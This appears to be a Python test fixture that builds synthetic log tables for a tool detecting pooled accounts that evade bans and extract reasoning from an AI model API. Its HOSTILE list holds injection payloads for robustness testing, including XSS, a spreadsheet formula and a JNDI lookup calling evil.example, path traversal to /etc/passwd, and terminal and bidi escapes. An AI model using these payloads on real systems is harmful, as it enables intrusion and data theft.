"""A case made by hand from frames: a hydra, an office, ordinary customers; any size; with hostile strings if asked."""

from __future__ import annotations

import statistics
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING

import numpy as np
import polars as pl

from forensics.common.schema import TABLES, TIME

if TYPE_CHECKING:
    from collections.abc import Mapping

START = datetime(2026, 4, 1, tzinfo=UTC)
RELEASE_DAY = 20  # aurora-max-2 appears
HOSTILE = (
    "\x1b]0;owned\x07<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "acct\u202egnp.exe\u2066",
    "../../etc/passwd\x00.html",
    "]]><!--<img src=x onerror=alert(1)>--><![CDATA[",
    "[click](javascript:alert(1)) `code` | pipe | **bold**",
    "\"><svg/onload=alert(1)>'",
    "{{7*7}}{% raw %}${7*7}",
    "\U000e0041\U000e0042tag\u200b\ufeff\u3164",
    "-1+1|cmd' /C calc'!A0",
    "line\nbreak\r\nInjected: header\t\x85\x9b31m",
    "' OR 1=1; -- \\ %s %n ${jndi:ldap://evil.example/a}",
)


@dataclass
class FrameCase:
    """Tables in memory, read the way a case is read."""

    tables: dict[str, pl.DataFrame] = field(default_factory=dict)

    def scan(self, table: str) -> pl.LazyFrame:
        """The table, empty if absent."""
        return self.tables.get(table, TABLES[table].empty()).lazy()

    def has(self, table: str) -> bool:
        """Whether it is there."""
        return table in self.tables


def _fit(name: str, columns: Mapping[str, object] | pl.DataFrame) -> pl.DataFrame:
    """`columns` as a whole table of the contract: what is not given is null."""
    contract = TABLES[name]
    frame = columns if isinstance(columns, pl.DataFrame) else pl.DataFrame(columns)
    frame = frame.select(
        [
            (pl.col(key) if key in frame.columns else pl.lit(None)).cast(column.dtype, strict=True).alias(key)
            for key, column in contract.columns.items()
        ]
    )
    return frame.sort(*contract.sort) if contract.sort else frame


@dataclass(frozen=True)
class _Life:
    ids: list[str]
    born: np.ndarray
    died: np.ndarray
    banned: np.ndarray


def _hydra_lives(rng: np.random.Generator, total: int, days: int, prefix: str) -> _Life:
    """`total` accounts in days since START: a first pool, three ban waves, each refilled within 8 hours."""
    first = max(2, total // 2)
    born = list(rng.uniform(0.5, 3.5, first))
    banned = [np.inf] * first
    left = total - first
    for share, day in ((0.34, 0.28 * days), (0.33, 0.53 * days), (0.33, 0.77 * days)):
        alive = [index for index, end in enumerate(banned) if end == np.inf and born[index] < day - 1]
        count = min(round(share * (total - first)), len(alive), left)
        for index in sorted(alive, key=lambda item: born[item])[:count]:
            banned[index] = day + float(rng.uniform(0, 0.02))
            born.append(day + float(rng.uniform(0.02, 0.35)))
            banned.append(np.inf)
        left -= count
    while left > 0:
        born.append(float(rng.uniform(1, days - 3)))
        banned.append(np.inf)
        left -= 1
    order = rng.permutation(total)
    ends = np.array(banned)
    return _Life([f"{prefix}{order[i]:05d}" for i in range(total)], np.array(born), np.minimum(ends, days - 0.2), ends)


def _stamp(days: np.ndarray) -> pl.Series:
    micros = np.round(np.asarray(days, dtype=float) * 86_400e6)
    values = np.where(np.isfinite(micros), micros, 0).astype(np.int64) + round(START.timestamp() * 1e6)
    return (
        pl.Series(values)
        .cast(TIME)
        .zip_with(pl.Series(np.isfinite(micros)), pl.Series([None] * len(values), dtype=TIME))
    )


def made_case(
    accounts: int = 60,
    *,
    others: int = 240,
    office: int = 24,
    days: int = 42,
    per_day: float = 12.0,
    hostile: bool = False,
    seed: int = 7,
) -> FrameCase:
    """A whole case: a hydra of `accounts`, an office, `others`; tables agree with each other."""
    rng = np.random.default_rng(seed)
    hydra = _hydra_lives(rng, accounts, days, "acct_h")
    if hostile:
        for index in range(min(len(HOSTILE), accounts // 2)):
            hydra.ids[index * 2] = HOSTILE[index]
    desk = _Life(
        [f"acct_o{i:04d}" for i in range(office)],
        np.zeros(office),
        np.full(office, days - 0.1),
        np.full(office, np.inf),
    )
    crowd = _Life(
        [f"acct_p{i:05d}" for i in range(others)],
        rng.uniform(0, days * 0.6, others),
        np.full(others, days - 0.1),
        np.full(others, np.inf),
    )
    events = _events(rng, hydra, desk, crowd, days, per_day, hostile=hostile)
    sources, events = _sources(events, hostile=hostile)
    groups = {"hydra": hydra, "office": desk, "crowd": crowd}
    register = _register(rng, groups, hostile=hostile)
    sightings = _sightings(events, register)
    described = _accounts(events, register)
    links = _links(rng, sightings, {"hydra": hydra.ids, "office": desk.ids}, len(described))
    members = _members(links, {"net_0123456789ab": hydra.ids, "net_ba9876543210": desk.ids})
    hallmarks = _hallmarks(hostile=hostile)
    networks = _networks(events, members, links)
    return FrameCase(
        {
            "sources": sources,
            "events": events,
            "register": register,
            "accounts": described,
            "sightings": sightings,
            "links": links,
            "members": members,
            "hallmarks": hallmarks,
            "networks": networks,
            "rejects": _rejects(hostile=hostile),
        }
    )


def _draw(rng: np.random.Generator, life: _Life, per_day: float, *, human: bool) -> tuple[np.ndarray, np.ndarray]:
    spans = np.maximum(life.died - life.born, 0.05)
    counts = np.maximum(rng.poisson(spans * per_day), 1)
    who = np.repeat(np.arange(len(life.ids)), counts)
    day = life.born[who] + rng.uniform(0, 1, len(who)) * spans[who]
    if human:
        hour = (day % 1) * 24
        keep = rng.uniform(0, 1, len(who)) < np.where((hour > 8) & (hour < 19), 1.0, 0.12)
        keep[np.unique(who, return_index=True)[1]] = True
        who, day = who[keep], day[keep]
    return who, day


def _events(
    rng: np.random.Generator, hydra: _Life, desk: _Life, crowd: _Life, days: int, per_day: float, *, hostile: bool
) -> pl.DataFrame:
    frames = []
    for life, rate, human in ((hydra, per_day, False), (desk, 6.0, True), (crowd, 4.0, True)):
        if not life.ids:
            continue
        who, day = _draw(rng, life, rate, human=human)
        n = len(who)
        is_hydra, is_office = life is hydra, life is desk
        eager = 0.49 if is_hydra else 0.15
        newer = (day > RELEASE_DAY) & (rng.uniform(0, 1, n) < np.minimum(eager + (day - RELEASE_DAY) * 0.01, 0.8))
        if is_hydra:
            template = 1000 + rng.integers(0, 7, n)
            system = np.where(rng.uniform(0, 1, n) < 0.8, 77, 78)
            address = [f"203.0.{113 + a % 3}.{a % 200 + 1}" for a in (who * 7 + rng.integers(0, 3, n)).tolist()]
            agent = np.where(rng.uniform(0, 1, n) < 0.7, "relay-sdk/0.52.0 linux", "python-requests/2.32")
        else:
            template = 5000 + who * 5 + rng.integers(0, 5, n) + (50_000 if is_office else 0)
            system = 9000 + who % 40
            address = ["198.51.100.7" if is_office else f"192.0.{a % 220}.{a % 250 + 1}" for a in who.tolist()]
            agent = np.where(who % 2 == 0, "aurora-python/1.9.2", "aurora-js/2.4.0")
        platform = np.where(
            rng.uniform(0, 1, n) < (0.55 if is_hydra else 0.8),
            "direct",
            np.where(rng.uniform(0, 1, n) < 0.6, "bedrock", "vertex"),
        )
        frames.append(
            pl.DataFrame(
                {
                    "started_at": _stamp(day),
                    "account_id": np.array(life.ids, dtype=object)[who].tolist(),
                    "client_address": address,
                    "user_agent": agent.tolist(),
                    "request_model": np.where(
                        newer, "aurora-max-2", np.where(rng.uniform(0, 1, n) < 0.6, "aurora-max-1", "aurora-mini")
                    ).tolist(),
                    "platform": platform.tolist(),
                    "template_hash": template.astype(np.uint64),
                    "system_hash": system.astype(np.uint64),
                    "input_tokens": rng.integers(200, 1500, n).astype(np.uint32),
                    "output_tokens": rng.integers(300, 4000, n).astype(np.uint32),
                    "status_code": np.where(rng.uniform(0, 1, n) < 0.03, 429, 200).astype(np.uint16),
                    "content_flags": np.where(is_hydra & (rng.uniform(0, 1, n) < 0.6), 1, 0).astype(np.uint32),
                }
            )
        )
    events = (
        pl.concat(frames).sort("started_at", "account_id").filter(pl.col("started_at") < START + timedelta(days=days))
    )
    events = events.with_columns(
        client_prefix=pl.col("client_address").str.replace(r"\.\d+$", ".0/24"),
        client_family=pl.col("user_agent").str.split("/").list.first(),
        ended_at=pl.col("started_at") + pl.duration(seconds=4),
        latency_ms=pl.lit(4000.0),
        endpoint=pl.lit("/v1/messages"),
        method=pl.lit("POST"),
    )
    if hostile:
        evil = pl.Series("evil", HOSTILE, dtype=pl.String)
        pick = pl.int_range(pl.len()) % (3 * len(HOSTILE))
        events = events.with_columns(
            observable_url=pl.when(pick < len(HOSTILE)).then(pl.lit(evil).implode().list.get(pick, null_on_oob=True))
        )
        events = events.with_columns(
            user_agent=pl.when(pl.col("user_agent").str.starts_with("relay"))
            .then(pl.lit(HOSTILE[0]))
            .otherwise("user_agent")
        )
        events = events.with_columns(
            request_model=pl.when((pl.col("request_model") == "aurora-mini") & (pick == 1))
            .then(pl.lit(HOSTILE[6]))
            .otherwise("request_model"),
            platform=pl.when(pick == 4).then(pl.lit(HOSTILE[4])).otherwise("platform"),
        )
    return events


def _sources(events: pl.DataFrame, *, hostile: bool) -> tuple[pl.DataFrame, pl.DataFrame]:
    paths = ["logs/direct.jsonl", "logs/cloud-1.json.gz", HOSTILE[4] + ".jsonl" if hostile else "logs/cloud-2.jsonl"]
    which = (
        pl.when(pl.col("platform") == "direct")
        .then(1)
        .when(pl.col("platform") == "bedrock")
        .then(2)
        .otherwise(3)
        .cast(pl.UInt32)
    )
    events = events.with_columns(source_id=which).with_columns(
        source_line=pl.int_range(1, pl.len() + 1).over("source_id").cast(pl.UInt64)
    )
    counts = dict(events.group_by("source_id").len().iter_rows())
    spans = {
        row[0]: row[1:]
        for row in events.group_by("source_id")
        .agg(pl.col("started_at").min().alias("a"), pl.col("started_at").max().alias("b"))
        .iter_rows()
    }
    rows = []
    for number, path in enumerate(paths, start=1):
        kept, duplicates, rejects = counts.get(number, 0), 11 * number, 3 if number == 3 else 0
        rows.append(
            {
                "source_id": number,
                "path": path,
                "format": "jsonl",
                "confidence": 1.0,
                "sha256": f"{number:064x}",
                "byte_start": 0,
                "byte_end": kept * 400,
                "line_start": 0,
                "line_count": kept + duplicates + rejects + 1,
                "event_count": kept,
                "duplicate_count": duplicates,
                "reject_count": rejects,
                "blank_count": 1,
                "first_event_at": spans.get(number, (None, None))[0],
                "last_event_at": spans.get(number, (None, None))[1],
            }
        )
    extra = [pl.col("observable_url")] if "observable_url" in events.columns else []
    columns = [
        (pl.col(name) if name in events.columns else pl.lit(None)).cast(column.dtype).alias(name)
        for name, column in TABLES["events"].columns.items()
    ]
    return _fit("sources", pl.DataFrame(rows)), events.select(*columns, *extra)


def _rejects(*, hostile: bool) -> pl.DataFrame:
    raw = [HOSTILE[0], HOSTILE[10], "{broken"] if hostile else ["{broken", "", "null"]
    return _fit(
        "rejects",
        {
            "source_id": [3, 3, 3],
            "source_line": [100_001, 100_002, 100_003],
            "byte_offset": [0, 40, 80],
            "reason": ["not valid JSON"] * 3,
            "raw": raw,
        },
    )


def _register(rng: np.random.Generator, groups: Mapping[str, _Life], *, hostile: bool) -> pl.DataFrame:
    frames = []
    for name, life in groups.items():
        if not life.ids:
            continue
        n = len(life.ids)
        cards = {
            "hydra": [f"card_{i // 4:05d}" for i in range(n)],
            "office": ["card_office"] * n,
            "crowd": [f"card_own_{i:05d}" for i in range(n)],
        }[name]
        frames.append(
            pl.DataFrame(
                {
                    "account_id": life.ids,
                    "created_at": _stamp(life.born - 0.01),
                    "banned_at": _stamp(life.banned),
                    "payment_id": cards,
                    "organization_id": [("Example Org <b>" if hostile else "Example Org") if name == "office" else None]
                    * n,
                    "email_domain": [
                        ["mail.example", "post.example", "box.example"][int(i)] for i in rng.integers(0, 3, n)
                    ],
                    "plan": ["standard"] * n,
                    "limit_per_day": [600.0] * n,
                    "limit_per_minute": [20.0] * n,
                }
            )
        )
    return _fit("register", pl.concat(frames, how="vertical_relaxed"))


def _sightings(events: pl.DataFrame, register: pl.DataFrame) -> pl.DataFrame:
    frames = []
    kinds = {
        "address": "client_address",
        "prefix": "client_prefix",
        "client": "user_agent",
        "template": "template_hash",
        "system": "system_hash",
    }
    if "observable_url" in events.columns:
        kinds["url"] = "observable_url"
    for kind, column in kinds.items():
        value = (
            pl.col(column).cast(pl.String) if events.schema[column] == pl.String else pl.format("{}", pl.col(column))
        )
        frames.append(
            events.filter(pl.col(column).is_not_null())
            .group_by("account_id", value.alias("value"))
            .agg(
                event_count=pl.len(),
                first_seen_at=pl.col("started_at").min(),
                last_seen_at=pl.col("started_at").max(),
            )
            .with_columns(kind=pl.lit(kind))
            .select(
                TABLES["sightings"].columns.keys()
                & {"account_id", "kind", "value", "event_count", "first_seen_at", "last_seen_at"}
            ),
        )
    pay = register.select(
        "account_id",
        kind=pl.lit("payment"),
        value="payment_id",
        event_count=pl.lit(0),
        first_seen_at=pl.lit(None, TIME),
        last_seen_at=pl.lit(None, TIME),
    )
    return _fit("sightings", pl.concat([*(_fit("sightings", frame) for frame in frames), _fit("sightings", pay)]))


def _accounts(events: pl.DataFrame, register: pl.DataFrame) -> pl.DataFrame:
    seen = events.group_by("account_id").agg(
        request_count=pl.len(),
        input_tokens=pl.col("input_tokens").sum(),
        output_tokens=pl.col("output_tokens").sum(),
        first_seen_at=pl.col("started_at").min(),
        last_seen_at=pl.col("started_at").max(),
        active_days=pl.col("started_at").dt.date().n_unique(),
        platform=pl.col("platform").mode().sort().first(),
        platform_count=pl.col("platform").n_unique(),
        top_model=pl.col("request_model").mode().sort().first(),
        template_count=pl.col("template_hash").n_unique(),
        hours=pl.col("started_at").dt.hour(),
        flagged_share=(pl.col("content_flags") > 0).mean(),
    )
    seen = seen.with_columns(
        hour_counts=pl.concat_list([pl.col("hours").list.count_matches(hour) for hour in range(24)])
    ).drop("hours")
    joined = seen.join(register.select("account_id", "created_at", "banned_at"), on="account_id", how="left")
    return _fit(
        "accounts", joined.with_columns(born_at=pl.coalesce("created_at", "first_seen_at"), ended_at="banned_at")
    )


def _links(
    rng: np.random.Generator, sightings: pl.DataFrame, groups: Mapping[str, list[str]], total: int
) -> pl.DataFrame:
    values: dict[str, dict[str, list[str]]] = {}
    for account, kind, value in sightings.select("account_id", "kind", "value").iter_rows():
        values.setdefault(account, {}).setdefault(kind, []).append(value)
    holders = {(kind, value): count for kind, value, count in sightings.group_by("kind", "value").len().iter_rows()}
    pairs: set[tuple[str, str]] = set()
    for ids in groups.values():
        for index, one in enumerate(ids):
            for other in {ids[(index + 1) % len(ids)], *[ids[int(pick)] for pick in rng.integers(0, len(ids), 3)]} - {
                one
            }:
                pairs.add((min(one, other), max(one, other)))
    rows = []
    for one, other in sorted(pairs):
        shared = [
            {
                "kind": kind,
                "value": value,
                "bits": float(np.log2(total / holders[kind, value])),
                "holders": holders[kind, value],
            }
            for kind, mine in values.get(one, {}).items()
            for value in sorted(set(mine) & set(values.get(other, {}).get(kind, [])))
        ]
        shared = sorted(shared, key=lambda item: (-item["bits"], item["kind"], item["value"]))[:8]
        kinds: dict[str, float] = {}
        for item in shared:
            kinds[item["kind"]] = min(kinds.get(item["kind"], 0.0) + item["bits"], 12.0)
        rows.append(
            {
                "account_a": one,
                "account_b": other,
                "weight_bits": sum(kinds.values()),
                "observables": shared,
                "kinds": [
                    {"kind": kind, "bits": bits}
                    for kind, bits in sorted(kinds.items(), key=lambda item: (-item[1], item[0]))
                ],
            }
        )
    return _fit("links", pl.DataFrame(rows, schema=TABLES["links"].schema))


def _members(links: pl.DataFrame, groups: Mapping[str, list[str]]) -> pl.DataFrame:
    ends = pl.concat(
        [
            links.select(account_id="account_a", bits="weight_bits", kinds="kinds"),
            links.select(account_id="account_b", bits="weight_bits", kinds="kinds"),
        ]
    )
    numbers = ends.group_by("account_id").agg(
        link_count=pl.len(), weight_bits=pl.col("bits").median(), kinds=pl.col("kinds").sort_by("bits").last()
    )
    frames = [pl.DataFrame({"network_id": network, "account_id": ids}) for network, ids in groups.items() if ids]
    members = pl.concat(frames).join(numbers, on="account_id", how="left")
    return _fit("members", members.with_columns(membership=pl.lit(0.97), role=pl.lit("core")))


def _hallmarks(*, hostile: bool) -> pl.DataFrame:
    extra = f" ({HOSTILE[0]} and {HOSTILE[5]})" if hostile else ""
    rows = [
        (
            "succession",
            "pooling",
            "lifecycle",
            "succession after bans",
            "births within 6 h of a ban",
            30.0,
            4.1,
            1.0,
            8.0,
            0.001,
            True,
            "30 births within 6 hours of 30 bans; 4.1 expected by chance.",
        ),
        (
            "alternation",
            "pooling",
            "scheduling",
            "turn-taking between accounts",
            "z",
            9.1,
            0.0,
            -2.0,
            2.0,
            0.001,
            True,
            "Accounts take turns more evenly than chance allows.",
        ),
        (
            "templates",
            "pooling",
            "content",
            "shared prompt templates",
            "templates held by 30 members",
            7.0,
            0.1,
            0.0,
            1.0,
            0.001,
            True,
            f"7 templates are shared by most members{extra}.",
        ),
        (
            "round_the_clock",
            "pooling",
            "rhythm",
            "round the clock",
            "entropy of the hour of day",
            0.99,
            0.91,
            0.89,
            0.93,
            0.004,
            True,
            "Requests come evenly at all hours.",
        ),
        (
            "flags",
            "extraction",
            "content",
            "reasoning elicitation",
            "share of requests",
            0.61,
            0.07,
            0.05,
            0.09,
            0.001,
            True,
            "61 % of requests ask for written-out reasoning; 7 % in the population.",
        ),
    ]
    out = [
        {
            "network_id": "net_0123456789ab",
            "name": name,
            "role": role,
            "channel": channel,
            "title": title,
            "assessable": True,
            "measure": measure,
            "observed": seen,
            "observed_low": seen * 0.9,
            "observed_high": seen * 1.1,
            "expected": want,
            "expected_low": low,
            "expected_high": high,
            "p_value": p,
            "holds": holds,
            "sentence": sentence,
        }
        for name, role, channel, title, measure, seen, want, low, high, p, holds, sentence in rows
    ]
    out.append(
        {
            "network_id": "net_0123456789ab",
            "name": "provenance",
            "role": "pooling",
            "channel": "provenance",
            "title": "replayed reasoning",
            "assessable": False,
            "reason": "no log has hashes of reasoning blobs",
            "holds": False,
        }
    )
    for network, fit in (("net_0123456789ab", 0.1), ("net_ba9876543210", 0.96)):
        out.append(
            {
                "network_id": network,
                "name": "organisation",
                "role": "explanation",
                "channel": "volume",
                "title": "one organisation",
                "assessable": True,
                "measure": "share of members with one declared organisation",
                "observed": fit,
                "fit": fit,
                "holds": fit > 0.8,
                "sentence": f"{fit:.0%} of members declare one organisation{extra}.",
            }
        )
    return _fit("hallmarks", pl.DataFrame(out, infer_schema_length=None))


def _networks(events: pl.DataFrame, members: pl.DataFrame, links: pl.DataFrame) -> pl.DataFrame:
    rows = []
    for network, name, rank, alert in (
        ("net_0123456789ab", "tern-quartz", 1, True),
        ("net_ba9876543210", "basil-ochre", 2, False),
    ):
        mine = events.join(
            members.filter(pl.col("network_id") == network).select("account_id"), on="account_id", how="semi"
        )
        if mine.is_empty():
            continue
        ids = members.filter(pl.col("network_id") == network)["account_id"]
        inside = links.filter(pl.col("account_a").is_in(ids.implode()) & pl.col("account_b").is_in(ids.implode()))
        kinds = (
            inside.select(pl.col("kinds").explode(empty_as_null=True).struct.unnest())
            .group_by("kind")
            .agg(pl.col("bits").median())
            .sort(["bits", "kind"], descending=[True, False])
        )
        first, last = mine["started_at"].min(), mine["started_at"].max()
        assert isinstance(first, datetime)
        assert isinstance(last, datetime)
        span = (last - first) / timedelta(days=1)
        daily = mine.group_by(pl.col("started_at").dt.date()).agg(pl.col("account_id").n_unique())
        rows.append(
            {
                "network_id": network,
                "name": name,
                "rank": rank,
                "alert": alert,
                "score": 0.98 if alert else 0.2,
                "pooling": "strong" if alert else "likely",
                "extraction": "strong" if alert else "none",
                "pooling_p": 1e-6 if alert else 0.3,
                "extraction_p": 1e-4 if alert else 0.9,
                "account_count": mine["account_id"].n_unique(),
                "request_count": len(mine),
                "input_tokens": int(mine["input_tokens"].sum()),
                "output_tokens": int(mine["output_tokens"].sum()),
                "first_seen_at": first,
                "last_seen_at": last,
                "span_days": span,
                "daily_count": len(mine) / span,
                "concurrent_count": int(statistics.median(daily["account_id"].to_list())),
                "limit_multiple": 41.0 if alert else 1.2,
                "platforms": mine["platform"].value_counts(sort=True)["platform"].to_list(),
                "models": mine["request_model"].value_counts(sort=True)["request_model"].to_list()[:5],
                "kinds": [*kinds.to_dicts(), {"kind": "device", "bits": 0.0}],
                "hallmarks": ["succession", "alternation", "templates", "round_the_clock", "flags"] if alert else [],
                "explanations": [] if alert else ["organisation"],
                "summary": "one job queue over many seats, refilled after every ban"
                if alert
                else "one declared organisation",
            }
        )
    return _fit("networks", pl.DataFrame(rows, schema=TABLES["networks"].schema))


def taking_turns(world: FrameCase, prefix: str = "acct_h") -> FrameCase:
    """The world with the requests of the hydra's accounts dealt out in turn: the same moments, the same rows of each
    account, but whoever waited longest goes next, as behind a load balancer.
    """
    events = world.tables["events"]
    mine = events.with_row_index("row").filter(pl.col("account_id").str.starts_with(prefix)).sort("started_at", "row")
    whose = mine["account_id"].to_numpy()
    at = mine["started_at"].to_numpy()
    lives = {name: (at[whose == name].min(), at[whose == name].max()) for name in np.unique(whose)}
    left = {name: int((whose == name).sum()) for name in lives}
    last = {name: born for name, (born, _) in lives.items()}
    dealt: dict[str, list[np.datetime64]] = {name: [] for name in lives}
    for moment in at:
        there = [name for name, (born, died) in lives.items() if left[name] and born <= moment <= died]
        there = there or [name for name in lives if left[name]]
        chosen = min(there, key=lambda name: (last[name], name))
        dealt[chosen].append(moment)
        last[chosen], left[chosen] = moment, left[chosen] - 1
    moments = mine.sort("account_id", "started_at", "row").with_columns(
        started_at=pl.Series(np.concatenate([dealt[name] for name in sorted(dealt)])).cast(TIME)
    )
    changed = events.with_row_index("row").update(moments.select("row", "started_at"), on="row").drop("row")
    return FrameCase(world.tables | {"events": _fit("events", changed)})
